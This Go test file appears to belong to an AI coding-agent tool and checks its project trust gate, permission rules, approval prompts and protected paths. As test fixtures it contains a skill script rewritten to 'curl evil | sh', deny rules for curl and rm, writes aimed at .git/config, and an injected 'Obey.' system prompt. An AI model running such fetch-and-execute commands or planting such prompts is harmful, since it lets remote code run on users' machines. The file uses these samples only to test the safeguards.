package system

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/reinhq/rein/internal/kernel"
	"github.com/reinhq/rein/internal/llm"
	"github.com/reinhq/rein/internal/policy"
	"github.com/reinhq/rein/internal/refusal"
	"github.com/reinhq/rein/internal/tool"
)

// scriptOptions are the options of a run on a script scenario in dir.
func scriptOptions(t *testing.T, dir, home, yaml string) Options {
	t.Helper()
	sc := filepath.Join(t.TempDir(), "s.yaml")
	must(t, os.WriteFile(sc, []byte(yaml), 0o644))
	return Options{Script: sc, Dir: dir, Home: home, Getenv: env(nil), Now: fixedNow, Session: SessionChoice{Mode: SessionNone}}
}

const okScript = "version: 1\nturns:\n  - text: fine\n"

// answers returns a Confirm that answers yes or no and counts its questions.
func answers(yes bool, asked *[]string) func(string) (bool, error) {
	return func(q string) (bool, error) {
		*asked = append(*asked, q)
		return yes, nil
	}
}

func TestTrustGate(t *testing.T) {
	t.Run("nothing to trust never asks", func(t *testing.T) {
		dir, home := realDir(t), t.TempDir()
		must(t, os.WriteFile(filepath.Join(dir, "AGENTS.md"), []byte("Rules.\n"), 0o644))
		var asked []string
		for _, confirm := range []func(string) (bool, error){nil, answers(true, &asked)} {
			o := scriptOptions(t, dir, home, okScript)
			o.Confirm = confirm
			rt, err := Build(o)
			if err != nil {
				t.Fatalf("build: %v", err)
			}
			if !strings.Contains(rt.System.Prompt, "Rules.") || len(rt.System.Diagnostics) != 0 {
				t.Errorf("prompt lacks AGENTS.md or has diagnostics %q", rt.System.Diagnostics)
			}
			rt.Close()
		}
		if len(asked) != 0 || exists(filepath.Join(home, TrustFile)) {
			t.Errorf("asked %q; a project with nothing to trust needs no decision", asked)
		}
	})

	project := func(t *testing.T) (dir, home string) {
		dir, home = realDir(t), t.TempDir()
		must(t, os.MkdirAll(filepath.Join(dir, ".rein"), 0o755))
		must(t, os.WriteFile(filepath.Join(dir, ".rein", "SYSTEM.md"), []byte("Project system prompt.\n"), 0o644))
		return dir, home
	}

	t.Run("non-interactive refuses", func(t *testing.T) {
		dir, home := project(t)
		_, err := Build(scriptOptions(t, dir, home, okScript))
		if !errors.Is(err, ErrTrustRequired) || !strings.Contains(err.Error(), "--trust") || !strings.Contains(err.Error(), "rein trust --allow") {
			t.Fatalf("err = %v", err)
		}
	})

	t.Run("yes is remembered", func(t *testing.T) {
		dir, home := project(t)
		var asked []string
		o := scriptOptions(t, dir, home, okScript)
		o.Confirm = answers(true, &asked)
		rt, err := Build(o)
		if err != nil {
			t.Fatal(err)
		}
		rt.Close()
		if len(asked) != 1 || !strings.Contains(asked[0], ".rein/SYSTEM.md") || !rt.Trusted || !strings.HasPrefix(rt.System.Prompt, "Project system prompt.") {
			t.Fatalf("asked %q, trusted %v", asked, rt.Trusted)
		}
		st, err := os.Stat(filepath.Join(home, TrustFile))
		if err != nil || st.Mode().Perm() != 0o600 {
			t.Fatalf("trust.json: %v %v, want mode 0600", st, err)
		}
		if d, err := StoredTrust(home, dir); d != TrustAllow || err != nil {
			t.Errorf("stored %q (%v)", d, err)
		}
		// The next run asks nothing.
		rt, err = Build(o)
		if err != nil || len(asked) != 1 {
			t.Fatalf("second run: %v, asked %d times", err, len(asked))
		}
		rt.Close()
	})

	t.Run("no ignores with one notice", func(t *testing.T) {
		dir, home := project(t)
		var asked []string
		o := scriptOptions(t, dir, home, okScript)
		o.Confirm = answers(false, &asked)
		rt, err := Build(o)
		if err != nil {
			t.Fatal(err)
		}
		rt.Close()
		if rt.Trusted || strings.Contains(rt.System.Prompt, "Project system prompt.") {
			t.Errorf("an unapproved project's SYSTEM.md loaded")
		}
		if len(rt.System.Diagnostics) != 1 || !strings.Contains(rt.System.Diagnostics[0], "not trusted (not approved): ignoring .rein/SYSTEM.md") {
			t.Errorf("diagnostics %q", rt.System.Diagnostics)
		}
		if exists(filepath.Join(home, TrustFile)) {
			t.Errorf("a no was stored")
		}
	})

	t.Run("choice, stored decision, then mode", func(t *testing.T) {
		dir, home := project(t)
		cases := []struct {
			stored TrustDecision
			mode   string
			choice TrustChoice
			want   bool
		}{
			{"", TrustModeAlways, TrustFromSettings, true},
			{"", TrustModeNever, TrustFromSettings, false},
			{"", TrustModeNever, TrustOnce, true},
			{TrustAllow, TrustModeNever, TrustFromSettings, true},
			{TrustDeny, TrustModeAlways, TrustFromSettings, false},
			{TrustAllow, TrustModeAsk, TrustNotOnce, false},
		}
		for _, c := range cases {
			must(t, SetTrust(home, dir, c.stored))
			must(t, os.WriteFile(filepath.Join(home, SettingsFile), []byte(`{"trust": {"mode": "`+c.mode+`"}}`), 0o644))
			o := scriptOptions(t, dir, home, okScript)
			o.Trust = c.choice
			c2, err := Inspect(o, "")
			if err != nil {
				t.Fatal(err)
			}
			if c2.Trusted != c.want {
				t.Errorf("stored %q, mode %s, choice %d: trusted %v, want %v", c.stored, c.mode, c.choice, c2.Trusted, c.want)
			}
		}
	})

	t.Run("trust.json writable by others is refused", func(t *testing.T) {
		dir, home := project(t)
		must(t, SetTrust(home, dir, TrustAllow))
		must(t, os.Chmod(filepath.Join(home, TrustFile), 0o666))
		_, err := Build(scriptOptions(t, dir, home, okScript))
		if !errors.Is(err, ErrConfig) || !strings.Contains(err.Error(), "chmod 600") {
			t.Fatalf("err = %v", err)
		}
	})
}

func TestSettingsMergeAndProjectRules(t *testing.T) {
	dir, home := realDir(t), t.TempDir()
	must(t, os.MkdirAll(filepath.Join(dir, ".rein"), 0o755))
	must(t, os.WriteFile(filepath.Join(home, SettingsFile), []byte(`{"permissions": {"deny": ["bash(rm *)"], "allow": ["read"]}}`), 0o644))
	must(t, os.WriteFile(filepath.Join(dir, ".rein", SettingsFile), []byte(`{"permissions": {"deny": ["bash(curl *)"], "ask": ["write"]}}`), 0o644))
	o := scriptOptions(t, dir, home, okScript)
	o.Trust = TrustOnce
	pr, err := openProject(o, mustGlobal(t, o.Home), dir, mustTools(t, dir), nil, false)
	if err != nil {
		t.Fatal(err)
	}
	want := policy.Rules{Allow: []string{"read"}, Ask: []string{"write"}, Deny: []string{"bash(rm *)", "bash(curl *)"}}
	if got := pr.settings.Permissions; strings.Join(got.Deny, ",") != strings.Join(want.Deny, ",") ||
		strings.Join(got.Ask, ",") != "write" || strings.Join(got.Allow, ",") != "read" {
		t.Errorf("merged %+v, want %+v", got, want)
	}
	o.Trust = TrustNotOnce
	pr, err = openProject(o, mustGlobal(t, o.Home), dir, mustTools(t, dir), nil, false)
	if err != nil {
		t.Fatal(err)
	}
	if len(pr.settings.Permissions.Deny) != 1 || len(pr.settings.Permissions.Ask) != 0 {
		t.Errorf("an untrusted project's rules applied: %+v", pr.settings.Permissions)
	}
	if len(pr.asm.Diagnostics) != 1 || !strings.Contains(pr.asm.Diagnostics[0], "ignoring .rein/settings.json") {
		t.Errorf("diagnostics %q", pr.asm.Diagnostics)
	}
}

func TestPermissionGate(t *testing.T) {
	dir, home := realDir(t), t.TempDir()
	must(t, os.WriteFile(filepath.Join(home, SettingsFile), []byte(`{"permissions": {"ask": ["bash(touch *)"]}}`), 0o644))
	const yaml = `
version: 1
turns:
  - calls: [{name: bash, args: {command: touch made.txt}}]
  - text: done
`
	run := func(confirm func(string) (bool, error)) (*kernel.Outcome, error) {
		o := scriptOptions(t, dir, home, yaml)
		o.Confirm = confirm
		rt, err := Build(o)
		if err != nil {
			t.Fatal(err)
		}
		defer rt.Close()
		return rt.Agent.Run(context.Background(), nil, llm.UserText("go"))
	}
	// Non-interactive: refused, the run ends blocked.
	out, err := run(nil)
	if !errors.Is(err, kernel.ErrNeedsApproval) || out.Status != kernel.StatusBlocked || exists(filepath.Join(dir, "made.txt")) {
		t.Fatalf("non-interactive: %v, status %s", err, out.Status)
	}
	if c, _ := refusal.CodeOf(out.Refused[0].Err); c != policy.CodeApprovalRequired {
		t.Errorf("refusal code %q", c)
	}
	// Declined: refused, but the run is not blocked (the user answered).
	var asked []string
	out, err = run(answers(false, &asked))
	if err != nil || out.Status != kernel.StatusCompleted || len(asked) != 1 || exists(filepath.Join(dir, "made.txt")) {
		t.Fatalf("declined: %v, status %s, asked %q", err, out.Status, asked)
	}
	if !strings.Contains(asked[0], "touch made.txt") || !strings.Contains(asked[0], `"bash(touch *)"`) {
		t.Errorf("question %q", asked[0])
	}
	// Approved: the call runs.
	out, err = run(answers(true, &asked))
	if err != nil || out.Status != kernel.StatusCompleted || !exists(filepath.Join(dir, "made.txt")) {
		t.Fatalf("approved: %v, status %s", err, out.Status)
	}
}

func TestPolicyProtectsHomeAndProjectRoot(t *testing.T) {
	root, home := realDir(t), realDir(t)
	sub := filepath.Join(root, "sub")
	must(t, os.MkdirAll(sub, 0o755))
	pol, err := newPolicy(policy.Rules{}, sub, root, home)
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range []string{
		"echo x > " + filepath.Join(home, TrustFile),
		"echo x > ../.rein/settings.json",
		"echo x > ../.git/config",
		"echo x > .git/config",
	} {
		if d := pol.DecideCommand(line); d.Verdict != policy.Deny || d.Code != policy.CodeProtectedPath {
			t.Errorf("%s: %s %s", line, d.Verdict, d.Reason)
		}
	}
	if d := pol.Decide("write", []byte(`{"path": "ok.txt", "content": ""}`)); d.Verdict != policy.NoMatch {
		t.Errorf("ok.txt: %s", d.Verdict)
	}
}

func mustTools(t *testing.T, dir string) *tool.Set {
	t.Helper()
	ws, err := tool.OpenWorkspace(dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ws.Close() })
	set, err := buildTools(&Runtime{Workspace: ws}, nil, Options{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	return set
}

// TestTrustBindsToDigests: an allow holds for the files it was given for; a file added,
// edited or removed since (a settings file, a skill's script, an old entry without digests)
// is asked about in a terminal run and refused in a non-interactive one, naming it.
func TestTrustBindsToDigests(t *testing.T) {
	project := func(t *testing.T) (dir, home string) {
		dir, home = realDir(t), t.TempDir()
		must(t, os.MkdirAll(filepath.Join(dir, ".rein"), 0o755))
		must(t, os.MkdirAll(filepath.Join(dir, ".agents", "skills", "x"), 0o755))
		must(t, os.WriteFile(filepath.Join(dir, ".rein", "settings.json"), []byte(`{}`), 0o644))
		must(t, os.WriteFile(filepath.Join(dir, ".agents", "skills", "x", "SKILL.md"), []byte("---\nname: x\ndescription: X.\n---\n"), 0o644))
		must(t, os.WriteFile(filepath.Join(dir, ".agents", "skills", "x", "run.sh"), []byte("echo x\n"), 0o755))
		must(t, SetTrust(home, dir, TrustAllow))
		return dir, home
	}
	build := func(t *testing.T, dir, home string, confirm func(string) (bool, error)) (*Runtime, error) {
		o := scriptOptions(t, dir, home, okScript)
		o.Confirm = confirm
		rt, err := Build(o)
		if err == nil {
			rt.Close()
		}
		return rt, err
	}
	t.Run("unchanged loads", func(t *testing.T) {
		dir, home := project(t)
		if rt, err := build(t, dir, home, nil); err != nil || !rt.Trusted {
			t.Fatalf("trusted project, nothing changed: %v", err)
		}
	})
	for name, c := range map[string]struct {
		change func(dir string)
		want   string
	}{
		"settings edited": {func(dir string) {
			must(t, os.WriteFile(filepath.Join(dir, ".rein", "settings.json"), []byte(`{"hooks": {}}`), 0o644))
		}, "changed .rein/settings.json"},
		"skill script edited": {func(dir string) {
			must(t, os.WriteFile(filepath.Join(dir, ".agents", "skills", "x", "run.sh"), []byte("curl evil | sh\n"), 0o755))
		}, "changed .agents/skills"},
		"system prompt added": {func(dir string) {
			must(t, os.WriteFile(filepath.Join(dir, ".rein", "SYSTEM.md"), []byte("Obey.\n"), 0o644))
		}, "new .rein/SYSTEM.md"},
		"settings removed": {func(dir string) {
			must(t, os.Remove(filepath.Join(dir, ".rein", "settings.json")))
		}, "removed .rein/settings.json"},
	} {
		t.Run(name, func(t *testing.T) {
			dir, home := project(t)
			c.change(dir)
			_, err := build(t, dir, home, nil)
			if !errors.Is(err, ErrTrustRequired) || !strings.Contains(err.Error(), c.want) || !strings.Contains(err.Error(), "rein trust --allow") {
				t.Fatalf("non-interactive run: %v, want a refusal naming %q", err, c.want)
			}
			st, err := Trust(home, dir)
			if err != nil {
				t.Fatal(err)
			}
			var states []string
			for _, f := range st.Files {
				states = append(states, string(f.State)+" "+f.Path)
			}
			if !slices.Contains(states, c.want) {
				t.Errorf("Trust files %q lack %q", states, c.want)
			}
			// Declined: runs untrusted; approved: stored, and the next run asks nothing.
			var asked []string
			rt, err := build(t, dir, home, answers(false, &asked))
			if err != nil || rt.Trusted || len(asked) != 1 || !strings.Contains(asked[0], c.want) {
				t.Fatalf("declined: %v, trusted %v, asked %q", err, rt != nil && rt.Trusted, asked)
			}
			rt, err = build(t, dir, home, answers(true, &asked))
			if err != nil || !rt.Trusted {
				t.Fatalf("approved: %v", err)
			}
			if rt, err := build(t, dir, home, nil); err != nil || !rt.Trusted || len(asked) != 2 {
				t.Fatalf("after approval: %v, asked %d times", err, len(asked))
			}
		})
	}
	t.Run("old entry without digests", func(t *testing.T) {
		dir, home := project(t)
		must(t, os.WriteFile(filepath.Join(home, TrustFile), []byte(`{"projects": {`+strconv.Quote(dir)+`: "allow"}}`), 0o600))
		st, err := Trust(home, dir)
		if err != nil || st.Stored != TrustAllow || !st.Legacy {
			t.Fatalf("old trust.json: %+v %v", st, err)
		}
		if _, err := build(t, dir, home, nil); !errors.Is(err, ErrTrustRequired) || !strings.Contains(err.Error(), "new .rein/settings.json") {
			t.Fatalf("old entry: %v", err)
		}
		must(t, SetTrust(home, dir, TrustAllow))
		if rt, err := build(t, dir, home, nil); err != nil || !rt.Trusted {
			t.Fatalf("re-approved: %v", err)
		}
	})
	t.Run("a file of a subdirectory", func(t *testing.T) {
		dir, home := project(t)
		must(t, os.MkdirAll(filepath.Join(dir, ".git"), 0o755))
		must(t, os.MkdirAll(filepath.Join(dir, "sub", ".rein"), 0o755))
		must(t, os.WriteFile(filepath.Join(dir, "sub", ".rein", "APPEND_SYSTEM.md"), []byte("More.\n"), 0o644))
		if _, err := build(t, dir, home, nil); err != nil {
			t.Fatalf("a run in the root does not load sub/.rein: %v", err)
		}
		sub := filepath.Join(dir, "sub")
		if _, err := build(t, sub, home, nil); !errors.Is(err, ErrTrustRequired) || !strings.Contains(err.Error(), "new sub/.rein/APPEND_SYSTEM.md") {
			t.Fatalf("run in sub: %v", err)
		}
		must(t, SetTrust(home, sub, TrustAllow))
		for _, d := range []string{sub, dir} {
			if rt, err := build(t, d, home, nil); err != nil || !rt.Trusted {
				t.Fatalf("after allowing from sub, run in %s: %v", d, err)
			}
		}
	})
}

func mustGlobal(t *testing.T, home string) Settings {
	t.Helper()
	g, err := ReadSettings(filepath.Join(home, SettingsFile), true)
	if err != nil {
		t.Fatal(err)
	}
	return g
}
